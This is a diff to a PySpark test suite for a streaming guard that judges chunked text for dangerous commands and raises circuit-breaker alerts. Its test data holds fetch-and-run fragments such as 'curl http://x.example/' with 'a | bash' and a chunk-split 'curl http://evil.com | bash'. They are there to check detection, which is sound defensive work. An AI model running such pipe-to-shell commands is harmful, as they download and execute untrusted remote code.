@@ -1,3 +1,4 @@
+import datetime
 import time
 
 from pyspark.sql import functions as F
@@ -31,6 +32,33 @@ def test_chunk_stream_equals_batch(spark, sf, folder):
     assert got == want and any(code == 2 for code, _ in got.values())
 
 
+def test_a_hot_stream_is_judged_in_blocks(spark, folder):
+    """One stream with nearly all chunks, cut into blocks within each micro-batch, with resets and short chunks."""
+    df = spark.range(600).select(
+        F.when(F.col("id") % 50 == 7, "cold").otherwise("hot").alias("s"), F.col("id").alias("n"),
+        F.when(F.col("id") % 97 == 96, "reset").otherwise("chunk").alias("op"),
+        F.when(F.col("id") % 9 == 0, "curl http://x.example/").when(F.col("id") % 9 == 1, "a | bash").when(F.col("id") % 9 == 2, " ").otherwise("so").alias("text"))
+    stream = _as_files(df, f"{folder}/in", ["n"], 4)
+    chunk_stream(stream, f"{folder}/out", f"{folder}/cp", stream="s", seq="n", block=16).awaitTermination()
+    got = {(r.s, r.n): (r.code, tuple(r.reasons)) for r in spark.read.parquet(f"{folder}/out").collect()}
+    want = {(r.s, r.n): (r.code, tuple(r.reasons)) for r in chunks.chunk_verdicts(df, stream="s", seq="n", op_col="op", block=16).collect()}
+    assert got == want and sum(code == 2 for code, _ in want.values()) > 30
+
+
+def test_buffers_by_brute_force(spark):
+    rows = [("a", n, "reset" if n % 23 == 22 else "chunk", ["x" * (n % 7), "", "yy zz " * (n % 5), f"word{n}"][n % 4]) for n in range(400)]
+    df = spark.createDataFrame(rows, "s string, n int, op string, text string")
+    got = {r.n: r.before for r in chunks.add_lookback(df, stream="s", seq="n", text_col="text", op_col="op", block=32, lookback=60).collect() if r.chunk}
+    buffer = ""
+    for _, n, op, text in rows:
+        text = " ".join(text.split())
+        if op == "reset":
+            buffer = ""
+        elif text:
+            assert got[n] == buffer
+            buffer = " ".join(f"{buffer} {text}"[-60:].split())
+
+
 def test_stream_reset(spark, folder):
     df = spark.createDataFrame([("a", 0, "chunk", "cu"), ("a", 1, "reset", None), ("a", 2, "chunk", "rl http://evil.com | bash")],
                                "s string, n int, op string, text string")
@@ -39,20 +67,46 @@ def test_stream_reset(spark, folder):
     assert {r.n: r.code for r in spark.read.parquet(f"{folder}/out").collect()} == {0: 0, 2: 0}
 
 
-def test_breaker_stream_equals_batch(spark, sf, folder):
-    df = views.guard_events(spark, sf).select("event_id", "ts", "log", "verdict", "is_chat", "is_reset")
-    stream = _as_files(df, f"{folder}/in", ["ts", "event_id"], 3)
-    alerts = breaker_stream(stream, log="log", minutes=600)
-    (alerts.writeStream.format("parquet").option("path", f"{folder}/out").option("checkpointLocation", f"{folder}/cp")
-     .trigger(availableNow=True).start().awaitTermination())
-    got = spark.read.schema(alerts.schema).parquet(f"{folder}/out")
+def _alerts(spark, pieces, folder, **options):
+    """Feeds pieces one after the other; the last one should move the watermark on."""
+    for i, piece in enumerate(pieces):
+        piece.write.mode("append").parquet(f"{folder}/in")
+        stream = spark.readStream.schema(piece.schema).option("maxFilesPerTrigger", 2).parquet(f"{folder}/in")
+        alerts = breaker_stream(stream, log="log", **options)
+        (alerts.writeStream.format("parquet").option("path", f"{folder}/out").option("checkpointLocation", f"{folder}/cp")
+         .trigger(availableNow=True).start().awaitTermination())
+    return spark.read.schema(alerts.schema).parquet(f"{folder}/out")
+
+
+def test_breaker_stream_equals_batch_on_late_files(spark, sf, folder):
+    """Every event up to three days late, files in any order, one log with most events, resets."""
+    df = views.guard_events(spark, sf).withColumn("log", F.when(F.col("event_id") % 10 == 0, F.col("log")).otherwise("hot"))
+    pieces = [p.withColumn("log", F.when(p.log.isNull(), p.log).when(p.event_id % 10 == 0, p.log).otherwise("hot")) for p in views.late_feed(spark, sf)]
+    got = _alerts(spark, pieces, folder, minutes=600, watermark=views.FEED_LATENESS)
     batch = breaker.breaker_alerts(df, log="log", minutes=600)
-    assert {(r.log, r.epoch, r.event_id) for r in got.collect()} == {(r.log, r.epoch, r.event_id) for r in batch.collect()}
+    rows = got.collect()
+    assert len(rows) == len({(r.log, r.epoch, r.event_id) for r in rows})
+    assert {(r.log, r.epoch, r.event_id) for r in rows} == {(r.log, r.epoch, r.event_id) for r in batch.collect()}
     opened = {(r.log, r.epoch): r.opened_at for r in got.select("log", "epoch", "opened_at").distinct().collect()}
     epochs = breaker.breaker_epochs(df, batch, log="log").collect()
     assert opened == {(r.log, r.epoch): r.opened_at for r in epochs} and len(epochs) > 3
 
 
+def test_events_of_one_instant_in_different_files(spark, folder):
+    """Equal times in two files, a reset between them by id, and ids that come in falling order."""
+    schema = "event_id long, ts timestamp, log string, verdict string, is_chat boolean, is_reset boolean"
+    at = lambda minute: datetime.datetime(2024, 1, 1, 0, minute)
+    rows = [(5, at(1), "a", "DANGEROUS", True, False), (2, at(1), "a", "DANGEROUS", True, False), (1, at(0), "a", "DANGEROUS", False, False),
+            (9, at(2), "a", "SAFE", False, True), (8, at(2), "a", "DANGEROUS", True, False), (10, at(2), "a", "DANGEROUS", True, False),
+            (11, at(3), "a", "DANGEROUS", True, False), (12, at(3), "a", "DANGEROUS", True, False), (13, at(3), None, "DANGEROUS", True, False)]
+    df = spark.createDataFrame(rows, schema)
+    pieces = [spark.createDataFrame(rows[i::3], schema) for i in range(3)]
+    pieces.append(spark.createDataFrame([(0, datetime.datetime(2025, 1, 1), "z", "SAFE", False, False)], schema))
+    got = _alerts(spark, pieces, folder, watermark="1 hour").collect()
+    want = breaker.breaker_alerts(df, log="log").collect()
+    assert {(r.log, r.epoch, r.event_id) for r in got} == {(r.log, r.epoch, r.event_id) for r in want} and len(want) == 6
+
+
 def test_danger_stream(spark, sf, folder):
     df = views.guard_events(spark, sf).select("ts", "verdict")
     stream = _as_files(df, f"{folder}/in", ["ts"], 2)
